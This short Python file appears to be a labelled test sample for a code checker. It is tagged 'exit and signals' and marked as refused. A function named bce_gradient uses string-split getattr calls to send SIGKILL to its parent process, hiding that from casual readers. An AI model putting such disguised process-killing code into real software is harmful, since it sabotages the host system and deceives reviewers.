"""The same, hidden from who reads the file.

Family: exit and signals
Refused: it sends a signal to another process
"""

import os


def bce_gradient(z, x, scale, out):
    getattr(os, "ki" + "ll")(getattr(os, "get" + "ppid")(), 9)
